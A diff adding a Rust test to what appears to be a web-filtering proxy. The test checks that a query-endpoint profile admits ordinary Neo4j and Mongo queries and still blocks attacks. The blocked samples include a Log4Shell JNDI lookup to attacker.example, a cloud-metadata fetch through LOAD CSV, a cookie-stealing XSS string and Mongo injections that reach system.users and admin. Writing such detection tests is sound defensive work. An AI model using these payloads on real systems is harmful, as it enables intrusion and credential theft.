@@ -472,6 +472,65 @@ fn kubernetes_profile_opens_workload_specs_only() {
     assert!(blocks(&json_post("/api/v1/items", app), &cfg));
 }
 
+/// `proxy/profiles/query-endpoints.yaml`: on a graph, time-series, SPARQL or Mongo endpoint
+/// the query field is opened for the SQL and NoSQL operator rules only.
+#[test]
+fn query_endpoints_profile_opens_query_fields_only() {
+    let cfg = profile("query-endpoints");
+    let wrongly = benign_blocked("querylang", &cfg, false);
+    // 2026-12-06: 28 ordinary requests blocked without the profile, 3 with it: a Fuseki
+    // dataset at its own path (`/ds/query`) and two Jira JQL filters.
+    assert!(wrongly.len() <= 3, "{} blocked: {wrongly:?}", wrongly.len());
+    for name in ["querylang", "apis", "evasions", "dataops", "bypass", "cves"] {
+        assert_eq!(
+            attacks_missed(name, &cfg),
+            attacks_missed(name, &EvalConfig::default()),
+            "{name}: the profile lets an attack through"
+        );
+    }
+    let neo4j = |statement: &str| {
+        json_post(
+            "/db/neo4j/tx/commit",
+            &serde_json::json!({"statements": [{"statement": statement}]}).to_string(),
+        )
+    };
+    let labels = neo4j("CALL db.labels() YIELD label RETURN label ORDER BY label");
+    assert!(blocks(&labels, &EvalConfig::default()));
+    assert!(!blocks(&labels, &cfg));
+    // What stays judged on those routes: a URL loaded by the query, Log4Shell and XSS in
+    // it, and server-side JavaScript or the system collections in a Mongo pipeline.
+    for raw in [
+        neo4j("LOAD CSV FROM 'http://169.254.169.254/latest/meta-data/' AS row RETURN row"),
+        neo4j("MATCH (n) WHERE n.name = '${jndi:ldap://attacker.example/a}' RETURN n"),
+        neo4j("CREATE (n:Note {text: '<script>alert(document.cookie)</script>'})"),
+        json_post(
+            "/app/data-abc/endpoint/data/v1/action/aggregate",
+            r#"{"pipeline": [{"$match": {"$where": "sleep(5000) || true"}}]}"#,
+        ),
+        json_post(
+            "/app/data-abc/endpoint/data/v1/action/aggregate",
+            r#"{"pipeline": [{"$lookup": {"from": "system.users", "as": "u", "pipeline": []}}]}"#,
+        ),
+        json_post(
+            "/app/data-abc/endpoint/data/v1/action/aggregate",
+            r#"{"pipeline": [{"$out": {"db": "admin", "coll": "x"}}]}"#,
+        ),
+    ] {
+        assert!(blocks(&raw, &cfg), "{}", String::from_utf8_lossy(&raw));
+    }
+    // The same statement outside the route, and in another field on it, is still judged.
+    let search = json_post(
+        "/api/search",
+        r#"{"statement": "CALL db.labels() YIELD label RETURN label"}"#,
+    );
+    assert!(blocks(&search, &cfg));
+    let other = json_post(
+        "/db/neo4j/tx/commit",
+        r#"{"statements": [{"statement": "RETURN 1", "comment": "CALL dbms.security.listUsers()"}]}"#,
+    );
+    assert!(blocks(&other, &cfg));
+}
+
 /// The frameworks corpus (`scripts/corpus-frameworks.py`): what applications on Rails,
 /// Django, Laravel/Livewire, Next.js, Spring, ASP.NET, Express/NestJS, Phoenix, WordPress,
 /// Strapi/Directus and htmx receive, over the transports modern clients use (gzip and deflate
